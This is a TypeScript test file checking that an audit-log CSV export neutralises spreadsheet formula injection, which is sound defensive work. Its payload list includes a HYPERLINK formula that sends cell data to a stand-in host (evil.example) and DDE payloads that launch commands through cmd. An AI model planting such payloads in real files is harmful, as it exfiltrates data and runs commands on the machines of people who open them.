/** The audit log as a file: names and values others chose run as no formula in a spreadsheet. */
import Papa from "papaparse";
import { expect, it } from "vitest";
import { auditCsv } from "../../../frontend/src/team/settings/audit-csv.ts";
import type { AuditRow } from "../../../src/team/api/audit.ts";

const FORMULAS = [
  '=HYPERLINK("https://evil.example/?"&A1,"Open")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)",
  "\t=1+1",
  "\r=1+1",
  "＝1+1",
];

it("shows what a spreadsheet would run as a formula as text, wherever it stands", () => {
  const rows = FORMULAS.map((words): AuditRow => ({
    id: "a",
    at: "2026-11-24T10:00:00.000Z",
    actor: { kind: "user", id: "user:dana", name: words },
    action: "policy.changed",
    subject: { kind: "policy", id: "p" },
    sentence: words,
    changes: [{ label: words, from: words, to: words }],
  }));
  const { data } = Papa.parse<string[]>(auditCsv(rows).replace(/^\uFEFF/, ""), { skipEmptyLines: true });
  expect(data).toHaveLength(FORMULAS.length + 1);
  for (const cell of data.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r＝＋－＠]/u);
});
